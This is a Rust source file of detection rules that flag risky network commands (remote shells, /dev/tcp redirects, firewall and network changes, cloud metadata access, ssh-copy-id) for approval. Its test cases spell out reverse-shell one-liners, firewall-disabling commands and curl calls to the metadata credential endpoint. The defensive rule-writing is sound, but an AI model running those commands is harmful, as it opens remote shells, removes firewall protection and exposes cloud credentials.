//! The network: shells for others, firewalls, cloud metadata.

use super::{On, Rule, named};
use crate::Class::Ask;
use crate::shell::{Place, Simple};

pub(super) const RULES: &[Rule] = &[
    Rule {
        key: "network-shell",
        description: "gives a shell to the other end of a network connection",
        class: Ask,
        on: named(&["nc", "ncat", "netcat", "socat", "telnet"], |command, _| {
            let execs = command.texts().any(|text| {
                let upper = text.to_ascii_uppercase();
                upper.starts_with("EXEC:") || upper.starts_with("SYSTEM:") || upper.starts_with("SHELL:")
            });
            execs
                || (command.name != "socat"
                    && (command.has_letter('e')
                        || command.has_letter('c')
                        || command.has_long("--exec", 4)
                        || command.has_long("--sh-exec", 4)))
        }),
        hits: &[
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat --exec /bin/bash h 1",
            "socat tcp:h:1 exec:bash,pty",
            "nc -lvp 1 -c bash",
        ],
        misses: &["nc -zv localhost 5432", "socat - tcp:localhost:80"],
    },
    Rule {
        key: "network-redirect",
        description: "connects a command to the network through /dev/tcp",
        class: Ask,
        on: On::Redirecting(|command, _| {
            command.redirects.iter().any(|redirect| {
                redirect.target.text.starts_with("/dev/tcp/") || redirect.target.text.starts_with("/dev/udp/")
            })
        }),
        hits: &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat x > /dev/tcp/h/1", "exec 3<>/dev/tcp/h/80"],
        misses: &["cat x > /dev/null"],
    },
    Rule {
        key: "firewall",
        description: "changes what the firewall lets through",
        class: Ask,
        on: named(
            &[
                "iptables",
                "ip6tables",
                "nft",
                "ufw",
                "firewall-cmd",
                "pfctl",
                "iptables-restore",
                "ebtables",
                "setenforce",
                "netsh",
            ],
            changes_firewall,
        ),
        hits: &[
            "iptables -F",
            "iptables -A INPUT -j ACCEPT",
            "ufw disable",
            "sudo nft flush ruleset",
            "ufw allow 22",
            "setenforce 0",
            "firewall-cmd --add-port=1/tcp",
        ],
        misses: &["iptables -L -n", "ufw status", "nft list ruleset", "iptables -S"],
    },
    Rule {
        key: "network-settings",
        description: "changes addresses, routes or links of the machine",
        class: Ask,
        on: named(&["ip", "ifconfig", "route", "nmcli", "networksetup"], |command, _| {
            const VERBS: &[&str] =
                &["del", "delete", "flush", "add", "set", "replace", "change", "down", "up", "modify", "off"];
            command.name != "route" && command.texts().skip(1).any(|text| VERBS.contains(&text))
                || (command.name == "route" && command.has(&["add", "del"]))
        }),
        hits: &["ip link set eth0 down", "ip route del default", "ifconfig eth0 down", "sudo route add default gw x"],
        misses: &["ip addr", "ip route show", "ifconfig", "ip -br a"],
    },
    Rule {
        key: "cloud-metadata",
        description: "talks to the cloud's metadata service, which gives out credentials",
        class: Ask,
        on: On::Any(|command, _| {
            const SAYING: &[&str] = &["echo", "printf", "grep", "rg", "git", "sed", "awk"];
            !command.is(SAYING) && command.texts().any(is_metadata)
        }),
        hits: &[
            "curl http://169.254.169.254/latest/meta-data/",
            "wget -qO- http://metadata.google.internal/x",
            "curl 100.100.100.200",
        ],
        misses: &["curl http://169.254.1.1", "grep 169.254.169.254 x"],
    },
    Rule {
        key: "remote-login-key",
        description: "lets a key log in on another machine",
        class: Ask,
        on: named(&["ssh-copy-id"], |_, _| true),
        hits: &["ssh-copy-id ann@host"],
        misses: &["ssh-keygen -t ed25519 -f key"],
    },
];

fn changes_firewall(command: &Simple, _: &Place) -> bool {
    match command.name.as_str() {
        "iptables" | "ip6tables" | "ebtables" => {
            let letters = "AIDFXPNRZE".chars().any(|letter| {
                command.texts().any(|text| text.strip_prefix('-').is_some_and(|rest| rest.starts_with(letter)))
            });
            let long = [
                "--flush",
                "--append",
                "--insert",
                "--delete",
                "--policy",
                "--delete-chain",
                "--new-chain",
                "--replace",
            ];
            letters || long.iter().any(|name| command.has(&[name]))
        }
        "nft" => {
            command.operand(0).is_some_and(|verb| {
                matches!(verb, "flush" | "delete" | "add" | "insert" | "replace" | "create" | "reset")
            }) || command.has(&["-f"])
        }
        "ufw" => command.operand(0).is_some_and(|verb| !matches!(verb, "status" | "show" | "version")),
        "firewall-cmd" => command.texts().any(|text| {
            ["--add", "--remove", "--set", "--reload", "--panic", "--complete-reload"]
                .iter()
                .any(|start| text.starts_with(start))
        }),
        "pfctl" => !command.has_letter('s'),
        "netsh" => command.has(&["set", "delete", "add", "reset"]),
        _ => true,
    }
}

fn is_metadata(text: &str) -> bool {
    const PLACES: &[&str] = &[
        "169.254.169.254",
        "metadata.google.internal",
        "100.100.100.200",
        "169.254.170.2",
        "fd00:ec2::254",
        "2852039166",
        "0xa9fea9fe",
    ];
    text.len() >= 10 && PLACES.iter().any(|place| text.contains(place))
}
